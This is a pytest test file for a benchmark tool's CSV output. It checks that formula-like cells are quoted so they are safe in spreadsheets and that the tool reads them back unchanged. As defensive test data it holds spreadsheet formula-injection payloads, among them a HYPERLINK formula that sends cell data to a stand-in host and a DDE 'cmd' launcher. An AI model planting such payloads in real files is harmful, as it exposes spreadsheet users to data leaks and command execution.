"""Results CSVs and `report show --csv` pivots are safe to open in a spreadsheet: a text cell that
starts with = + - @ or a tab (a formula to a spreadsheet) is written with a leading single quote,
numbers are written as they are, and every reader (report, --resume, compare) reads back what was
written. A header that names a column twice is refused, naming the column."""

import csv
from pathlib import Path

import pytest
from test_cli_report import row, write
from typer.testing import CliRunner

from zorro_cli.main import app
from zorro_harness.bench.report import load_results
from zorro_harness.bench.results import COLUMNS, ResultWriter, done_keys, read_rows

runner = CliRunner()

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "\tx"]


def _raw_cells(path: Path) -> list[list[str]]:
    with path.open(newline="") as f:
        return list(csv.reader(f))


def _result(case_id: str, model: str, **kw) -> dict:
    r = row(1, 64, "forward", 2.0, case_id=case_id, model=model, **kw)
    return r


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_written_quoted_and_read_back_as_it_was(tmp_path, cell):
    out = tmp_path / "r.csv"
    w = ResultWriter(out)
    w.append(_result(cell, cell, error=cell, speedup_err=-1.5, status="error"))
    header, cells = _raw_cells(out)
    raw = dict(zip(header, cells))
    for col in ("case_id", "model", "error"):
        assert raw[col] == "'" + cell, (col, raw[col])
    assert raw["speedup_err"] == "-1.5"  # a number stays a number
    (back,) = read_rows(out)
    assert back["case_id"] == back["model"] == back["error"] == cell
    assert done_keys(out) == set()  # read back: its key is the cell as given (an error row is run again)
    w.append(_result(cell, cell))
    assert done_keys(out) == {(cell, "forward")}  # --resume skips it
    df = load_results([out])
    assert df.loc[0, "case_id"] == cell and df.loc[0, "model"] == cell


@pytest.mark.parametrize("cell", ["'quoted", "'", "''", "'=x", "plain", "-1.5", "+2", "-inf", "1e-3"])
def test_cells_round_trip_whatever_they_start_with(tmp_path, cell):
    out = tmp_path / "r.csv"
    ResultWriter(out).append(_result("c", "m", error=cell))
    (back,) = read_rows(out)
    assert back["error"] == cell
    got = load_results([out]).loc[0, "error"]
    try:
        assert float(got) == float(cell)  # pandas reads a number as one
    except ValueError:
        assert got == cell


def test_report_show_csv_quotes_formula_cells_and_keeps_numbers(tmp_path):
    model = '=HYPERLINK("http://x.example","m")'
    src = write(tmp_path / "r.csv", [row(1, 64, "forward", 2.0, model=model), row(4, 64, "forward", 1.5, model=model)])
    piv = tmp_path / "p.csv"
    res = runner.invoke(app, ["report", "show", str(src), "--csv", str(piv)])
    assert res.exit_code == 0, res.output
    header, *rows = _raw_cells(piv)
    for r in rows:
        cells = dict(zip(header, r))
        assert cells["model"] == "'" + model
        float(cells["speedup_P64"])  # written as a number, no quote
        float(cells["prompt_dedup_ratio"])


def test_report_stack_csv_quotes_formula_cells(tmp_path):
    from test_cli_report import stack_rows

    model = "@evil"
    src = write(tmp_path / "stack.csv", [{**r, "model": model} for r in stack_rows()])
    out = tmp_path / "table.csv"
    res = runner.invoke(app, ["report", "stack", str(src), "--csv", str(out)])
    assert res.exit_code == 0, res.output
    with out.open(newline="") as f:
        table = list(csv.DictReader(f))
    assert [r["config"] for r in table] == ["baseline", "'+flash_attention", "'+liger", "'+dedup", "'+split_attention"]
    assert {r["model"] for r in table} == {"'" + model}
    float(table[1]["tokens_per_s"])


def test_a_duplicated_header_column_is_refused_naming_it(tmp_path):
    p = tmp_path / "dup.csv"
    header = [*COLUMNS, "speedup"]
    values = {**row(1, 64, "forward", 2.0)}
    with p.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerow([values.get(c, "") for c in COLUMNS] + ["9.0"])
    with pytest.raises(ValueError, match=r"dup.csv.*column 'speedup' twice"):
        load_results([p])
    with pytest.raises(ValueError, match=r"column 'speedup' twice"):
        read_rows(p)
    res = runner.invoke(app, ["report", "show", str(p)])
    assert res.exit_code == 2 and "speedup" in res.output and "Traceback" not in res.output
